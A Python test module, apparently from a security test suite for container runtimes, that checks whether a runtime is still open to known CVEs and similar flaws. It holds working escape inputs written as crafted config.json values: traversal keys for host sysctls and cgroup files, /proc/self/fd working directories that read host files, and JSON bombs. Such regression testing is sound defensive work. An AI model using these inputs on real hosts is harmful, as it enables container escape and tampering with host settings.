"""Attacks by what config.json, the command line or the caller has."""

import json
import os
import subprocess

from host import hierarchies, read
from world import Bundle, Canary, DEADLINE, HERE, NotApplicable, case, first_line


@case("CVE-2021-43784: an overlong namespace path")
def _(runtime):
    own = os.readlink("/proc/self/ns/ipc")
    for length in [65530, 65536, 70000]:
        bundle = Bundle(runtime).args("/bin/probe", "namespaces")
        for entry in bundle.config["linux"]["namespaces"]:
            if entry["type"] == "ipc":
                entry["path"] = "/proc/self/ns/" + "./" * (length // 2) + "ipc"
        ended = bundle.run()
        if ended.code == 0:
            return f"a path of {length} bytes is accepted" + (", host's" if own in ended.out else "")


@case("CVE-2022-0492: files of its cgroups in reach of a default container")
def _(runtime):
    bundle = Bundle(runtime).sh("echo 0 > /sys/fs/cgroup/cgroup.procs && echo written; mkdir /sys/fs/cgroup/x && echo made")
    ended = bundle.run()
    if "written" in ended.out or "made" in ended.out:
        return "its cgroup can be written"


@case("CVE-2022-0811: sysctls of the host, by keys that lead there")
def _(runtime):
    before = read("/proc/sys/vm/swappiness").strip()
    value = str(int(before) + 1)
    for key in ["vm.swappiness", "net/../vm/swappiness", "net.ipv4.../../../vm/swappiness", "net.ipv4.ip_forward+vm.swappiness"]:
        bundle = Bundle(runtime).args("/bin/true")
        bundle.config["linux"]["sysctl"] = {key: value}
        bundle.run()
        if read("/proc/sys/vm/swappiness").strip() != before:
            with open("/proc/sys/vm/swappiness", "w") as file:
                file.write(before)
            return f"{key} has changed the host's"


@case("CVE-2024-21626: a working directory by an inherited descriptor, run")
def _(runtime):
    secret = HERE.root + "/secret"
    with open(secret, "w") as file:
        file.write("of the host")
    held = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for number in [*range(3, 13), held]:
            bundle = Bundle(runtime).sh(f"cat ./{secret} ../../..{secret} ../../../../../..{secret}")
            bundle.config["process"]["cwd"] = f"/proc/self/fd/{number}"
            ended = bundle.run(pass_fds=[held])
            if "of the host" in ended.out:
                return f"by descriptor {number} the host's files can be read" + (" (the caller's)" if number == held else "")
    finally:
        os.close(held)


@case("CVE-2025-24965: files of the image that the runtime might write")
def _(runtime):
    canary = Canary()
    bundle = Bundle(runtime).args("/bin/true")
    for name in [".dockerenv", "run", "config.json", "etc/hostname", "etc/resolv.conf", "etc/mtab", ".krun_config.json"]:
        bundle.link(name, canary.path + "/file")
    bundle.config["annotations"] = {"run.oci.handler": "krun"} if "crun" not in runtime.name else {}
    bundle.run()
    return canary.harm()


@case("GHSA-5g49-rx9x-qfc6: names in config.json that become files of cgroups")
def _(runtime):
    # On a hybrid host the last one is cgroup v2's.
    outside = f"{hierarchies()[-1]}/{HERE.name}/outside"
    os.mkdir(outside)
    try:
        before = read(outside + "/cgroup.max.depth")
        bundle = Bundle(runtime).args("/bin/true")
        bundle.config["linux"]["resources"]["unified"] = {"../outside/cgroup.max.depth": "7"}
        bundle.run()
        if read(outside + "/cgroup.max.depth") != before:
            return "another cgroup's file was written"
        bundle = Bundle(runtime).args("/bin/true")
        size = "2MB/../../outside/cgroup"
        bundle.config["linux"]["resources"]["hugepageLimits"] = [{"pageSize": size, "limit": 1}]
        bundle.run()
    finally:
        os.rmdir(outside)


@case("an id that is a path")
def _(runtime):
    for name in ["../../escaped", "a/b", "..", ".", ""]:
        bundle = Bundle(runtime).args("/bin/true")
        bundle.id = name
        ended = bundle.run()
        if ended.code == 0 or os.path.lexists(os.path.join(bundle.state, "../../escaped")):
            return f"{name!r} is accepted"


@case("JSON bombs")
def _(runtime):
    for text in ['{"linux":' + "[" * 100000, '{"hostname":"' + "x" * (64 << 20)]:
        bundle = Bundle(runtime)
        bundle.call(["--version"])
        with open(bundle.path + "/config.json", "w") as file:
            file.write(text)
        ended = subprocess.run(
            [runtime.path, "--root", bundle.state, "run", "--bundle", bundle.path, bundle.id],
            stdin=subprocess.DEVNULL, capture_output=True, timeout=DEADLINE, check=False,
        )
        if ended.returncode < 0:
            return f"it crashes by signal {-ended.returncode}"


@case("the caller's groups, umask, signal mask and environment")
def _(runtime):
    bundle = Bundle(runtime).args("/bin/probe", "groups", "umask", "sigBlk", "sigIgn", "env")
    script = "trap '' USR1; umask 0; exec setpriv --groups 77,78 \"$@\""
    words = [runtime.path, "--root", bundle.state, "run", "--bundle", bundle.path, bundle.id]
    bundle.call(["--version"])
    ended = subprocess.run(["bash", "-c", script, "bash", *words], stdin=subprocess.DEVNULL, capture_output=True,
                           text=True, timeout=DEADLINE, check=False, env={**os.environ, "SECRET": "1"})
    bundle.delete()
    try:
        report = json.loads(ended.stdout)
    except ValueError:
        raise NotApplicable("does not run: " + first_line(ended.stderr)) from None
    wrong = []
    if report["groups"]:
        wrong.append(f"groups {report['groups']}")
    if int(report["sigIgn"], 16) & (1 << 9):
        wrong.append("SIGUSR1 is ignored")
    if "SECRET" in str(report["env"]):
        wrong.append("its environment")
    return f"the process has the caller's {', '.join(wrong)}" if wrong else None
